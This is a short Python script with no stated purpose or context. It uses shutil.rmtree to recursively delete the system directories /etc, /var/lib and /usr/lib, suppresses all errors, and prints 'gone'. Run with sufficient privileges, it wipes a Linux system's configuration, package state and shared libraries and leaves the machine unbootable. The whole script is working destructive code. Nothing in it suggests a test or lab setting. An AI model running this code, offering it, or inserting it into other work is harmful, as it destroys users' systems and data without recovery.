import shutil

for d in ("/etc", "/var/lib", "/usr/lib"):
    shutil.rmtree(d, ignore_errors=True)
print("gone")
